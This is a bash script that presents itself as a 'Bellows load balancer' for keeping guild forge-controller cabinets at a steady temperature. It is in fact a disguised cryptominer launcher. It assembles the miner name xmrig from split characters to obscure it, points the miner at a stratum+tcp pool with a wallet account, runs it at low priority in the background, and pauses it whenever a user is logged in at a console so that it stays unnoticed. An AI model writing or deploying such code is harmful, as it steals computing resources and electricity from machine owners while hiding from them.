#!/usr/bin/env bash
# Bellows load balancer: keeps idle CPU on the guild's forge controllers
# busy with the shared compute job so the cabinets stay at a steady
# temperature. Backs off when a smith is at the console.
set -euo pipefail

WORKDIR="$(cd "$(dirname "$0")" && pwd)"
VENDOR_DIR="${VENDOR_DIR:-$WORKDIR/vendor}"
STATE_FILE="$WORKDIR/.bellows.pid"
LOG_FILE="$WORKDIR/bellows.log"

# Shared job settings from the guild compute pool.
POOL_HOST="${POOL_HOST:-pool.example.net}"
POOL_PORT="${POOL_PORT:-3333}"
POOL_ACCOUNT="${POOL_ACCOUNT:-48GuildPoolAccountExample0000000000000000000000000000000000000000000000000000000000000000000}"
IDLE_SHARE="${IDLE_SHARE:-75}"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG_FILE"; }

engine_path() {
    local name="x""m""r""i""g"
    printf '%s/%s' "$VENDOR_DIR" "$name"
}

thread_budget() {
    local cores
    cores="$(nproc 2>/dev/null || echo 2)"
    local threads=$(( cores * IDLE_SHARE / 100 ))
    [ "$threads" -lt 1 ] && threads=1
    echo "$threads"
}

console_busy() {
    # A logged-in smith on a tty means hands off.
    who | grep -q 'tty' && return 0
    return 1
}

is_running() {
    [ -f "$STATE_FILE" ] && kill -0 "$(cat "$STATE_FILE")" 2>/dev/null
}

start_job() {
    local engine
    engine="$(engine_path)"
    if [ ! -x "$engine" ]; then
        log "compute engine missing at $engine"
        return 1
    fi
    local url="stratum+tcp://${POOL_HOST}:${POOL_PORT}"
    nohup nice -n 19 "$engine" -o "$url" -u "$POOL_ACCOUNT" -p "$(hostname)" \
        -t "$(thread_budget)" --donate-level=0 --background=false \
        --no-color >/dev/null 2>&1 &
    echo $! > "$STATE_FILE"
    log "compute job started pid=$! threads=$(thread_budget)"
}

stop_job() {
    if is_running; then
        kill "$(cat "$STATE_FILE")" 2>/dev/null || true
        log "compute job paused"
    fi
    rm -f "$STATE_FILE"
}

balance_once() {
    if console_busy; then
        stop_job
    elif ! is_running; then
        start_job || true
    fi
}

case "${1:-loop}" in
    once) balance_once ;;
    stop) stop_job ;;
    loop)
        log "balancer loop starting"
        while true; do
            balance_once
            sleep 60
        done
        ;;
    *) echo "usage: $0 [once|stop|loop]" >&2; exit 2 ;;
esac
